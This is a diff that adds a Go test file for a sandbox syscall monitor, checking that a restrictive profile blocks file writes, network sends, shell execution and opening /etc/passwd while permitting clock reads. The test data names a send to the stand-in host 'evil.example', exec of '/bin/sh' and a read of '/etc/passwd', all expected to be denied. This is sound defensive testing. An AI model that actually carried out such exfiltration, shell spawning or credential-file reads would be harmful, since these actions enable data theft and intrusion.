@@ -1,0 +1,121 @@
+package sandbox
+
+import (
+	"errors"
+	"sync"
+	"testing"
+)
+
+func TestDEDProfileBlocksLeaks(t *testing.T) {
+	m := NewMonitor(DEDProfile())
+	env := NewEnv(m)
+
+	// The paper's example: F_pd^r functions are forbidden write(2).
+	if err := env.WriteFile("/tmp/exfil", []byte("pd")); !errors.Is(err, ErrSyscallDenied) {
+		t.Fatalf("WriteFile err = %v, want ErrSyscallDenied", err)
+	}
+	if err := env.Send("evil.example:443", []byte("pd")); !errors.Is(err, ErrSyscallDenied) {
+		t.Fatalf("Send err = %v, want ErrSyscallDenied", err)
+	}
+	if err := env.Exec("/bin/sh"); !errors.Is(err, ErrSyscallDenied) {
+		t.Fatalf("Exec err = %v, want ErrSyscallDenied", err)
+	}
+	if err := env.Open("/etc/passwd"); !errors.Is(err, ErrSyscallDenied) {
+		t.Fatalf("Open err = %v, want ErrSyscallDenied", err)
+	}
+	// Allowed: clock reads (compute_age needs current_year()).
+	if err := env.Now(); err != nil {
+		t.Fatalf("Now err = %v, want nil", err)
+	}
+	if m.DeniedCount() != 4 {
+		t.Fatalf("DeniedCount = %d, want 4", m.DeniedCount())
+	}
+}
+
+func TestUnconfinedAllowsEverything(t *testing.T) {
+	m := NewMonitor(UnconfinedProfile())
+	env := NewEnv(m)
+	if err := env.WriteFile("/anywhere", nil); err != nil {
+		t.Fatalf("unconfined WriteFile: %v", err)
+	}
+	if err := env.Send("anywhere:80", nil); err != nil {
+		t.Fatalf("unconfined Send: %v", err)
+	}
+	if m.DeniedCount() != 0 {
+		t.Fatalf("DeniedCount = %d", m.DeniedCount())
+	}
+}
+
+func TestZeroProfileDeniesAll(t *testing.T) {
+	var p Profile // zero value: deny everything
+	m := NewMonitor(p)
+	if err := m.Invoke(SysRead, "x"); !errors.Is(err, ErrSyscallDenied) {
+		t.Fatalf("zero profile Invoke = %v", err)
+	}
+}
+
+func TestAttemptsRecorded(t *testing.T) {
+	m := NewMonitor(DEDProfile())
+	_ = m.Invoke(SysRead, "dbfs")
+	_ = m.Invoke(SysWrite, "/leak")
+	at := m.Attempts()
+	if len(at) != 2 {
+		t.Fatalf("Attempts = %d", len(at))
+	}
+	if !at[0].Allowed || at[0].Sys != SysRead {
+		t.Fatalf("attempt 0 = %+v", at[0])
+	}
+	if at[1].Allowed || at[1].Sys != SysWrite || at[1].Arg != "/leak" {
+		t.Fatalf("attempt 1 = %+v", at[1])
+	}
+	// Returned slice is a copy.
+	at[0].Arg = "mutated"
+	if m.Attempts()[0].Arg != "dbfs" {
+		t.Fatal("Attempts exposed internal storage")
+	}
+}
+
+func TestSendMediatesSocketThenSend(t *testing.T) {
+	// A profile allowing socket but not send must still block Send at the
+	// second hop.
+	p := NewProfile("half", SysSocket)
+	m := NewMonitor(p)
+	env := NewEnv(m)
+	if err := env.Send("host:1", nil); !errors.Is(err, ErrSyscallDenied) {
+		t.Fatalf("Send = %v", err)
+	}
+	at := m.Attempts()
+	if len(at) != 2 || !at[0].Allowed || at[1].Allowed {
+		t.Fatalf("attempts = %+v", at)
+	}
+}
+
+func TestSyscallStrings(t *testing.T) {
+	if SysWrite.String() != "write" || SysGetTime.String() != "gettime" {
+		t.Fatal("syscall names wrong")
+	}
+	if Syscall(99).String() != "syscall(99)" {
+		t.Fatal("unknown syscall name wrong")
+	}
+	if DEDProfile().Name() != "ded-fpd" {
+		t.Fatal("profile name wrong")
+	}
+}
+
+func TestConcurrentInvoke(t *testing.T) {
+	m := NewMonitor(DEDProfile())
+	var wg sync.WaitGroup
+	for w := 0; w < 8; w++ {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			for i := 0; i < 100; i++ {
+				_ = m.Invoke(SysWrite, "x")
+			}
+		}()
+	}
+	wg.Wait()
+	if m.DeniedCount() != 800 {
+		t.Fatalf("DeniedCount = %d, want 800", m.DeniedCount())
+	}
+}
